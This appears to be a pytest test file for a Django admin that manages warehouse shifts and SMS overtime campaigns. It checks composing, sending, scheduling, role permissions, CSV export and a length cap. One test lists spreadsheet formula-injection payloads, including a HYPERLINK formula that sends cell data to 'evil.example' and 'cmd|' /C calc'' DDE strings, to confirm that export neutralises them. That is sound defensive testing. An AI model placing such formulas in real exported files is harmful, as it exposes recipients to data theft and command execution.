"""The shift manager's admin: board, composer with preview and audience, send, progress; analyst views only."""

import pytest
from django.contrib.auth.models import Group
from django.test import TestCase

from messaging.models import OutboundMessage, Tag
from shifts import services
from shifts.models import CampaignStatus, ShiftCampaign

pytestmark = pytest.mark.django_db


@pytest.fixture
def login(client, django_user_model):
    def as_role(group_name: str):
        user = django_user_model.objects.create_user(group_name.replace(" ", "-"), password="pw", is_staff=True)
        user.groups.add(Group.objects.get(name=group_name))  # created by portal's roles migration
        client.force_login(user)
        return client

    return as_role


@pytest.fixture
def board(employees):
    employees(4)
    services.shift_create(code="XYZ1234", info="Warehouse picker", location="Dock 3")
    services.shift_create(code="ABC9876", info="Forklift driver", location="Yard B")


def test_the_shift_board_lists_filters_and_searches(login, board, employees):
    c = login("shift manager")
    from tests.support.shifts import sms_in

    sms_in(employees(1, start=500)[0], "ABC9876")
    html = c.get("/admin/shifts/shift/").content.decode()
    assert "XYZ1234" in html and "ABC9876" in html
    html = c.get("/admin/shifts/shift/?status__exact=available").content.decode()
    assert "XYZ1234" in html and "ABC9876" not in html
    html = c.get("/admin/shifts/shift/?q=forklift").content.decode()
    assert "ABC9876" in html and "XYZ1234" not in html


def test_a_manager_composes_previews_sends_and_watches_progress(login, board):
    c = login("shift manager")
    tag = Tag.objects.get(name="overtime")
    xyz = services.shift_get(code="XYZ1234")

    r = c.post("/admin/shifts/shiftcampaign/add/", {"name": "Saturday", "tag": tag.pk, "shifts": [xyz.pk],
                                                    "message": "", "send_at_0": "", "send_at_1": ""})
    campaign = ShiftCampaign.objects.get()
    assert r.status_code == 302 and r.url == f"/admin/shifts/shiftcampaign/{campaign.pk}/send/"
    # Nothing written: the draft keeps following its shifts, composed when shown or sent.
    assert campaign.message == ""
    current = services.campaign_message_current(campaign=campaign)
    assert "XYZ1234: Warehouse picker" in current and "ABC9876" not in current

    page = c.get(r.url).content.decode()
    assert "XYZ1234: Warehouse picker" in page
    assert "1 SMS part" in page and "GSM-7" in page
    assert '<b id="audience-size">4</b>' in page
    assert not OutboundMessage.objects.exists()  # the preview sends nothing

    with TestCase.captureOnCommitCallbacks(execute=True):
        r = c.post(r.url, {"now": "1"})
    assert r.status_code == 302 and r.url.endswith(f"/{campaign.pk}/progress/")
    campaign.refresh_from_db()
    assert campaign.status == CampaignStatus.SENT and campaign.recipients == 4
    assert "Live progress" in c.get(f"/admin/shifts/shiftcampaign/{campaign.pk}/change/").content.decode()
    assert 'id="progress-bar"' in c.get(r.url).content.decode()
    progress = c.get(f"/admin/shifts/shiftcampaign/{campaign.pk}/progress.json").json()
    assert (progress["recipients"], progress["sent"], progress["percent_done"]) == (4, 4, 100)

    # Pressing send again sends nothing more.
    c.post(f"/admin/shifts/shiftcampaign/{campaign.pk}/send/", {"now": "1"})
    assert OutboundMessage.objects.count() == 4


def test_a_campaign_with_a_send_time_is_scheduled_not_sent(login, board):
    from datetime import timedelta

    from django.utils import timezone

    c = login("shift manager")
    campaign = services.campaign_create(name="Later", tag=Tag.objects.get(name="overtime"),
                                        send_at=timezone.now() + timedelta(hours=1))
    assert "Schedule for" in c.get(f"/admin/shifts/shiftcampaign/{campaign.pk}/send/").content.decode()
    c.post(f"/admin/shifts/shiftcampaign/{campaign.pk}/send/", {"schedule": "1"})
    campaign.refresh_from_db()
    assert campaign.status == CampaignStatus.SCHEDULED and campaign.timer_id
    assert not OutboundMessage.objects.exists()


def test_an_analyst_sees_campaigns_and_progress_but_cannot_send_or_edit(login, board):
    campaign = services.campaign_create(name="Draft", tag=Tag.objects.get(name="overtime"))
    c = login("analyst")
    assert c.get("/admin/shifts/shift/").status_code == 200
    page = c.get(f"/admin/shifts/shiftcampaign/{campaign.pk}/send/").content.decode()
    assert "You may view this campaign but not send it." in page
    assert c.post(f"/admin/shifts/shiftcampaign/{campaign.pk}/send/", {"now": "1"}).status_code == 403
    assert c.get("/admin/shifts/shiftcampaign/add/").status_code == 403
    assert c.get("/admin/shifts/shift/import/").status_code == 403
    assert c.get(f"/admin/shifts/shiftcampaign/{campaign.pk}/progress.json").status_code == 200
    assert not OutboundMessage.objects.exists()


# ------------------------------------------------------------------ CSV export and import


def _export_csv(c):
    """Export the shift board as CSV through the admin's export form, every column ticked."""
    import re

    form = c.get("/admin/shifts/shift/export/")
    assert form.status_code == 200
    columns = set(re.findall(r'name="(shiftresource_\w+)"', form.content.decode()))
    assert columns
    return c.post("/admin/shifts/shift/export/", {"format": "0", "resource": "0", **dict.fromkeys(columns, "on")})


def test_only_users_who_may_view_shifts_may_export_or_see_the_button(login, board):
    c = login("dispatcher")  # staff, but shifts are not theirs
    assert c.get("/admin/shifts/shift/export/").status_code == 403
    assert c.post("/admin/shifts/shift/export/", {"format": "0"}).status_code == 403
    assert c.get("/admin/shifts/shift/import/").status_code == 403

    c = login("analyst")
    r = _export_csv(c)
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    assert "XYZ1234" in r.content.decode()
    assert c.get("/admin/shifts/shift/import/").status_code == 403  # viewing is not adding


def test_a_shift_manager_sees_export_and_import(login, board):
    c = login("shift manager")
    board_page = c.get("/admin/shifts/shift/").content.decode()
    assert "/admin/shifts/shift/export/" in board_page and "/admin/shifts/shift/import/" in board_page
    assert c.get("/admin/shifts/shift/import/").status_code == 200
    assert _export_csv(c).status_code == 200


FORMULAE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Details")',
    '==HYPERLINK("http://evil.example/")',  # import-export's own escape strips only one "="
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
]


def test_exported_text_that_a_spreadsheet_would_run_comes_out_as_text(login, board):
    import csv
    import io

    for i, text in enumerate(FORMULAE):
        services.shift_create(code=f"EVIL{i:03d}", info=text, location=text if i == 0 else "Dock 1")
    c = login("shift manager")
    rows = list(csv.DictReader(io.StringIO(_export_csv(c).content.decode())))
    by_code = {r["code"]: r for r in rows}
    for i, text in enumerate(FORMULAE):
        assert by_code[f"EVIL{i:03d}"]["info"] == "'" + text.strip()
    assert by_code["EVIL000"]["location"] == "'" + FORMULAE[0]
    # Ordinary text and plain numbers (an E.164 phone) are left as they are.
    assert by_code["XYZ1234"]["info"] == "Warehouse picker"
    from messaging.values.spreadsheets import spreadsheet_safe

    assert spreadsheet_safe("+12065550100") == "+12065550100" and spreadsheet_safe("-3") == "-3"
    for r in rows:
        for cell in r.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t")) or cell.lstrip("+-").isdigit(), cell


def test_the_composer_refuses_a_message_over_the_campaign_cap_and_names_the_limit(login, board):
    c = login("shift manager")
    tag = Tag.objects.get(name="overtime")
    r = c.post("/admin/shifts/shiftcampaign/add/", {"name": "Essay", "tag": tag.pk, "message": "x" * 1601,
                                                    "send_at_0": "", "send_at_1": ""})
    assert r.status_code == 200 and "at most 1600 characters" in r.content.decode()
    assert not ShiftCampaign.objects.exists()


def test_sending_a_draft_saved_over_the_cap_shows_why_and_sends_nothing(login, board):
    c = login("shift manager")
    tag = Tag.objects.get(name="overtime")
    draft = ShiftCampaign.objects.create(name="Old draft", tag=tag, message="x" * 2000)  # predates the cap
    with TestCase.captureOnCommitCallbacks(execute=True):
        r = c.post(f"/admin/shifts/shiftcampaign/{draft.pk}/send/", {"now": "1"}, follow=True)
    assert r.status_code == 200 and "at most 1600 characters" in r.content.decode()
    assert not OutboundMessage.objects.exists()
    draft.refresh_from_db()
    assert draft.status == CampaignStatus.DRAFT
